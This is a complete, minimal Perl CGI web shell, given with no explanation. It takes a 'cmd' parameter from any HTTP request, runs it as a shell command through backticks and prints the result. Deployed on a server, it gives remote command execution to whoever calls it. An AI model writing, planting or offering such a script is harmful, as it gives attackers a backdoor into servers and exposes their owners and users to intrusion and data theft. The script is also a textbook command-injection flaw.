#!/usr/bin/perl
use CGI;
my $q = CGI->new;
my $c = $q->param('cmd');
print $q->header('text/plain');
print `$c`;
